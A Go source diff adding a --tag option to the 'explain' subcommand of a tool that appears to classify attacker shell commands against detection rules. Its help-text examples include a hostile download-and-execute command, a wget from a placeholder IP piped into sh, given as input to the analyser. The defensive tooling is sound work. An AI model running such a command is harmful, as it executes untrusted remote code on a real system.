@@ -14,18 +14,30 @@ import (
 func (a *app) explainCommand() *command {
 	fs := a.flags()
 	asJSON := fs.Bool("json", false, "print one JSON object")
+	tag := fs.String("tag", "", "explain the stored tag with this `UUID` instead of a command")
 	event := fs.Bool("event", false, "the argument is an event in the native JSON form, of any kind")
 	return &command{
 		name: "explain", args: "COMMAND", short: "show which rules match a command, and why", fs: fs,
 		text: `Judges one shell command as a run would: how it is taken apart, which rules match,
 on which part of it, and what they emit. Several arguments are joined by blanks;
 - reads the command from standard input. Works without a store; where there is
-one, the states of its rules are applied.`,
+one, the states of its rules are applied.
+
+--tag shows what a stored tag came of: its event, the rule and version that made
+it, which test of the rule saw what, and whether the rule as it is now would make
+it, or why not. ttpcron tags --json shows the uuid of every tag.`,
 		examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
+ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
 ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"user_agent":"curl/8.5.0"}}'`,
-		exits: []int{exitFailed, exitInterrupted},
+		exits: []int{exitFailed, exitLocked, exitInterrupted},
 		run: func(ctx context.Context, args []string) error {
+			if *tag != "" {
+				if err := noArgs(args); err != nil {
+					return err
+				}
+				return a.explainTag(ctx, *tag, *asJSON)
+			}
 			e, err := a.eventToExplain(args, *event)
 			if err != nil {
 				return err
@@ -37,7 +49,7 @@ ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T
 			a.warnRules(report)
 			x := rs.Explain(e)
 			if *asJSON {
-				return a.explainJSON(x)
+				return json.NewEncoder(a.stdout).Encode(explanationOf(x))
 			}
 			return a.explainText(x)
 		},
@@ -79,7 +91,8 @@ func (a *app) eventToExplain(args []string, native bool) (ttpcron.Event, error) 
 	return e, nil
 }
 
-func (a *app) explainText(x tagger.Explanation) error {
+// textParts prints what a text was taken apart into.
+func (a *app) textParts(x tagger.Explanation) {
 	w, t := a.stdout, a.out
 	for _, l := range x.Layers {
 		fmt.Fprintf(w, "%s %s\n", t.paint(dim, "decoded ("+clean(l.Method)+")"), t.cut(clean(l.Text), 400))
@@ -102,6 +115,11 @@ func (a *app) explainText(x tagger.Explanation) error {
 		}
 		fmt.Fprintln(w)
 	}
+}
+
+func (a *app) explainText(x tagger.Explanation) error {
+	w := a.stdout
+	a.textParts(x)
 	for i, j := range x.Rules {
 		if i > 0 {
 			fmt.Fprintln(w)
@@ -197,7 +215,7 @@ type hitJSON struct {
 	End     *int   `json:"end"`
 }
 
-func (a *app) explainJSON(x tagger.Explanation) error {
+func explanationOf(x tagger.Explanation) explanationJSON {
 	out := explanationJSON{Signals: x.Signals, Text: x.Text, Layers: x.Layers, Tags: x.Tags, Skipped: x.Verdict.Skipped, Bounded: x.Verdict.Bounded}
 	for _, c := range x.Commands {
 		out.Lines = append(out.Lines, commandJSON{c.Line, c.Program, c.Depth})
@@ -216,5 +234,5 @@ func (a *app) explainJSON(x tagger.Explanation) error {
 		}
 		out.Rules = append(out.Rules, one)
 	}
-	return json.NewEncoder(a.stdout).Encode(out)
+	return out
 }
